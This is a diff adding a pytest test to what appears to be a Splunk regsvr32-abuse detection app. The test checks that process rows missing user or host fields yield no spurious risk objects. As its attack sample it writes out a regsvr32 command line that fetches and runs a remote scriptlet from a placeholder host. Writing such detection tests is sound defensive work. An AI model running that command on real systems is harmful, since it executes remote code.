@@ -6,7 +6,9 @@ message in the job inspector."""
 import csv
 import glob
 import io
+import json
 import os
+import re
 import shutil
 import subprocess
 
@@ -14,6 +16,7 @@ import pytest
 
 from support import chunked
 from support.allowlists import HEADER
+from support.dashboard_data import entities
 from support.samples import BENIGN, MALICIOUS
 from test_hostile_text import PY39CSV
 
@@ -189,3 +192,53 @@ def test_a_search_writes_no_bytecode_into_the_app(tmp_path):
     written = [os.path.relpath(os.path.join(d, n), str(copy)) for d, dirs, files in os.walk(str(copy))
                for n in dirs + files if n == "__pycache__" or n.endswith((".pyc", ".pyo"))]
     assert written == []
+
+
+# --- a tstats row without a user: no risk to a user named after the fill value -----------------
+def _tstats_rows(stanza, rows):
+    """The pipes of a saved search up to the command, modelled: tstats fills each missing by-field
+    with its fillnull_value (as written), then any macro piped in before the command runs."""
+    from test_conf import conf
+    macros, search = conf("macros.conf"), conf("savedsearches.conf")[stanza]["search"]
+    options = macros["regsvr32_summariesonly"]["definition"]
+    fill = re.search(r'fillnull_value=("[^"]*"|\S+)', options).group(1).strip('"')
+    by = macros["regsvr32_process_fields"]["definition"].split()
+    rows = [dict((f, row.get(f, fill)) for f in by) for row in rows]
+    head = search[:search.index("| regsvr32detect")]
+    assert head.startswith("| tstats `regsvr32_summariesonly`"), head
+    for name in re.findall(r"\|\s*`(\w+)`", head):
+        definition = macros[name]["definition"]
+        if "edr" in name:
+            continue                    # EDR rows: none here
+        # foreach Processes.* [eval <<FIELD>>=if('<<FIELD>>'=="<value>", null(), '<<FIELD>>')]
+        m = re.match(r"foreach (\S+) \[eval <<FIELD>>=if\('<<FIELD>>'==\"([^\"]*)\", null\(\), "
+                     r"'<<FIELD>>'\)\]$", definition)
+        assert m, "not modelled: %s = %s" % (name, definition)
+        prefix, placeholder = m.group(1).rstrip("*"), m.group(2)
+        rows = [dict((k, v) for k, v in r.items() if not (k.startswith(prefix) and v == placeholder))
+                for r in rows]
+    return rows
+
+
+def test_a_tstats_row_without_user_or_host_gives_no_risk_object():
+    from support.events import cim
+    from test_conf import conf
+    saved = conf("savedsearches.conf")
+    stanza = next(s for s in saved.sections() if "datamodel=Endpoint.Processes" in saved[s]["search"]
+                  and "R32-001" in saved[s]["search"])
+    attack = "regsvr32 /s /n /u /i:http://example.com/file.sct scrobj.dll"
+    full = cim(attack, prefix="Processes.")
+    bare = cim(attack, user=None, dest=None, cwd=None, prefix="Processes.")
+    result = chunked.run(["mode=filter"], [_tstats_rows(stanza, [full, bare])])
+    assert result.returncode == 0 and len(result.rows) == 2, result.stderr[-2000:]
+    # the verdict of a row whose fields were not logged is the one of the same row without them
+    alone = chunked.run(["mode=filter"], [[bare]]).rows
+    assert [r["regsvr32_score"] for r in result.rows] == [alone[0]["regsvr32_score"]] * 2
+    risk = json.loads(saved[stanza]["action.risk.param._risk"])
+    objects = [r["risk_object_field"] for r in risk if "risk_object_field" in r]
+    assert {"user", "dest"} <= set(objects)
+    for row, want in zip(result.rows, ({"user": full["Processes.user"], "dest": "WS01"}, {})):
+        row = dict((k[len("Processes."):] if k.startswith("Processes.") else k, v) for k, v in row.items())
+        entities(row)
+        got = dict((f, row[f]) for f in objects if row.get(f))
+        assert got == want, got
